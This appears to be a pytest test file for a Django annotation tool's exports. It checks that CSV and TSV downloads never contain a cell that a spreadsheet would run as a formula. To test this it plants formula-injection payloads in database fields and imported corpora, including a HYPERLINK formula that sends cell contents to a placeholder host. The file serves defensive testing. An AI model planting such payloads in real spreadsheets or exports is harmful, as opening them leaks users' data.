"""No table that goes out holds a cell which a spreadsheet would run."""

import csv
import io
import re
import zipfile

import pytest
from django.apps import apps
from django.db import models
from django.db.models.functions import Concat
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

import annotator.models as tables
from annotator.models import Adjudication, Corpus, Judgment, Pair
from annotator.services import jobs
from annotator.services.corpora import exports
from core.data.cells import plain_cell, plain_rows
from tests.annotator import joint_cast
from tests.annotator.corpora import test_importing
from tests.annotator.judged import Judged, judged
from tests.annotator.reports import test_matrix
from tests.cast import Cast

FORMULA = '=HYPERLINK("http://x/"&A1)'
SIGNS = "=+-@＝＋－＠"
KINDS = ("pairs", "msrpc", "multimwa", "jsonl", "gemel", "pharaoh", "conllu")
FORMS = ("csv", "tsv")
# What names, orders or finds a row, and what only the machine writes.
STRUCTURE = {"code", "key", "digest", "tokens", "slug", "slot", "file", "sha256"}
STRUCTURE |= {"language", "label", "scale", "name", "domain", "kind"}
OURS = ("judgment", "participant", "item", "instance", "treechange", "pair", "corpus")
OURS += ("adjudication",)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula; by another road."""
    inner = cell.lstrip(' "\t\r\n\ufeff')
    try:
        float(cell)
    except ValueError:
        return len(inner) > 1 and inner[0] in SIGNS
    return False


@given(st.text("=+-@'\" \t\n1a＝", max_size=6))
def test_no_cell_runs_and_no_other_is_touched(text: str) -> None:
    made = plain_cell(text)
    assert not runs(made)
    assert made in (text, "'" + text)
    if text.isalnum():
        assert made == text


@pytest.mark.parametrize("number", ["-1", "+3", "-0.5", "1e-5", "-", "5", -2, None])
def test_numbers_and_lone_signs_stay(number: object) -> None:
    assert plain_cell(number) == number


@given(st.text("=+1a\t\r\n '", max_size=8))
def test_a_row_has_no_cell_that_runs_whatever_ends_its_lines(text: str) -> None:
    for cell in re.split(r"[\t\r\n]", plain_rows(text)):
        assert not runs(cell)


def spoil() -> None:
    """The formula into every text that a person may have written."""
    for table in apps.get_app_config("annotator").get_models():
        if table._meta.model_name not in OURS:
            continue
        for field in table._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField)
            if is_text and not field.choices and field.name not in STRUCTURE:
                length = getattr(field, "max_length", None) or 99
                if length >= len(FORMULA) + 8:
                    table._base_manager.update(**{field.name: evil(FORMULA)})
    tables.Condition.objects.update(name=evil(FORMULA))
    tables.Participant.objects.update(label=evil("@SUM"))


def evil(text: str) -> Concat:
    """The text and the row's number: some columns want each to be another."""
    return Concat(models.Value(text), "pk", output_field=models.CharField())


@pytest.fixture
def spoiled(cast: Cast, monkeypatch) -> Client:
    """Ada's project with corpora, a campaign and a ledger, full of formulas."""
    monkeypatch.setattr(jobs, "_wake", lambda kind: None)
    bring_in(cast)
    decided(judged(cast))
    joint_cast.ledger(cast, domain=FORMULA, operations=FORMULA)
    spoil()
    Judgment.objects.update(values={"meaning": FORMULA, "grammar": -2})
    client = Client()
    client.force_login(cast.ada)
    return client


def bring_in(cast: Cast) -> None:
    for kind, text in HOSTILE.items():
        test_importing.bring_in(
            cast, text.encode(), kind=kind, corpus=kind, name=f"{kind}.tsv"
        )


def decided(of: Judged) -> None:
    for item in of.items:
        Adjudication.objects.create(
            item=item, number=1, values={"meaning": FORMULA}, confidence=1
        )


HOSTILE = {
    "pairs": f'id\tsource\ttarget\t=more\n{FORMULA}\t+1 "a"\t"@b\t-x\n',
    "msrpc": f"Quality\t#1 ID\t#2 ID\t#1 String\t#2 String\n1\t7\t8\t{FORMULA}\t@b\n",
    "multimwa": "=0:0\t+a b\tN/A\t-c d\tN/A\t1\t1\t1-1 0-0\t0-1\t\t=x\n",
}


def addresses() -> set[str]:
    """The addresses of all routes that give files, for each row, kind and form."""
    wanted = re.compile(r"export|(judgments|items|decisions)\.<slug|table")
    known = {table: test_matrix.codes(table) for table in test_matrix.with_codes()}
    urls = set()
    for _, text in test_matrix.routes():
        if not wanted.search(text):
            continue
        kinds = ("campaign", "ratings") if "agreement" in text else KINDS
        for kind in kinds:
            for form in FORMS:
                filled = test_matrix.filled(text, known, kind=kind, form=form)
                urls |= {address for address, is_meant in filled if is_meant}
    return urls


def sheets(answer) -> dict[str, str]:
    """The tables in the answer, by name; none if it is no download."""
    if answer.status_code != 200 or "attachment" not in answer.get(
        "Content-Disposition", ""
    ):
        return {}
    name = answer["Content-Disposition"].partition('filename="')[2].rstrip('"')
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    files = {name: body}
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            files = {one: archive.read(one) for one in archive.namelist()}
    return {
        name: content.decode()
        for name, content in files.items()
        if name.endswith((".tsv", ".csv"))
    }


def cells(name: str, text: str) -> list[str]:
    if name.endswith(".csv"):
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for line in text.split("\n") for cell in line.split("\t")]


@pytest.mark.once
def test_no_export_holds_a_cell_that_runs(spoiled: Client) -> None:
    seen: dict[str, int] = {}
    for address in sorted(addresses()):
        for name, text in sheets(spoiled.get(address)).items():
            formulas = [cell for cell in cells(name, text) if runs(cell)]
            assert not formulas, f"{address}: {formulas[:3]}"
            kind = address.strip("/").split("/")[-1]
            seen[kind] = seen.get(kind, 0) + text.count("HYPERLINK")
    tables = ("judgments", "decisions", "items")
    ours = {f"{name}.{form}" for name in tables for form in FORMS}
    assert set(seen) == ours | {"csv", "pairs", "msrpc", "multimwa"}
    assert all(seen.values()), seen  # the payload arrived everywhere


def test_programs_may_have_the_corpus_exactly_as_it_came(
    cast: Cast, client: Client
) -> None:
    bring_in(cast)
    client.force_login(cast.ada)
    for kind, text in HOSTILE.items():
        corpus = Corpus.objects.get(name=kind)
        url = reverse("export_file", args=["windows", corpus.code, kind])
        exact = b"".join(client.get(url + "?exact=yes").streaming_content)
        assert exact.decode() == text
        made = exports.parts(corpus, kind, by=cast.ada, exact=True)
        assert "".join(made[0].lines) == text
    assert Pair.objects.exists()
